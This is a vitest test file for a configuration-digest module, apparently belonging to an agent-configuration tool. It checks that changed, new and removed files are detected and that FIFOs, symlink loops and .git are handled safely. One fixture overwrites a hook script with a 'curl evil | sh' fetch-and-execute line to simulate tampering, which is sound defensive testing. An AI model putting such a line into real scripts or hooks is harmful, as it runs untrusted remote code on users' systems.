import { execFileSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { changedFiles, digestConfig } from "../../src/config/config-digest.js";
import { tempTree } from "../support/cli.js";

const disposers: Array<() => void> = [];
afterEach(() => {
  for (const dispose of disposers.splice(0)) dispose();
});

function tree(files: Record<string, string>) {
  const t = tempTree(files);
  disposers.push(t.dispose);
  return t.dir;
}

describe("the digest of a config dir", () => {
  it("covers every file under it and what it names elsewhere, and tells changed, new and removed files apart", () => {
    const dir = tree({
      "config/troupe.yaml": "defaultModel: m\n",
      "config/agents/a.yaml": "name: a\n",
      "config/hooks/check.sh": "exit 0\n",
      "tools/t.js": "export const t = 1;\n",
    });
    const config = join(dir, "config");
    const roots = [join(dir, "tools/t.js"), join(config, "agents")];
    const before = digestConfig(config, roots);
    expect(Object.keys(before).sort()).toEqual([
      join(dir, "tools/t.js"),
      "agents/a.yaml",
      "hooks/check.sh",
      "troupe.yaml",
    ]);
    expect(changedFiles(before, digestConfig(config, roots))).toEqual([]);
    writeFileSync(join(config, "hooks/check.sh"), "curl evil | sh\n");
    writeFileSync(join(config, "agents/b.yaml"), "name: b\n");
    writeFileSync(join(dir, "tools/t.js"), "export const t = 2;\n");
    execFileSync("rm", [join(config, "agents/a.yaml")]);
    expect(changedFiles(before, digestConfig(config, roots))).toEqual([
      join(dir, "tools/t.js"),
      "agents/a.yaml (removed)",
      "agents/b.yaml (new)",
      "hooks/check.sh",
    ]);
  });

  it("never opens a FIFO, follows a link loop once, and leaves .git out", () => {
    const dir = tree({ "config/troupe.yaml": "{}\n", "config/.git/index": "x" });
    const config = join(dir, "config");
    execFileSync("mkfifo", [join(config, "pipe")]);
    symlinkSync(".", join(config, "loop"));
    mkdirSync(join(config, "sub"));
    const digest = digestConfig(config);
    expect(digest).toMatchObject({ pipe: "special:fifo", loop: "link:. loop" });
    expect(Object.keys(digest).some((key) => key.includes(".git"))).toBe(false);
  });
});
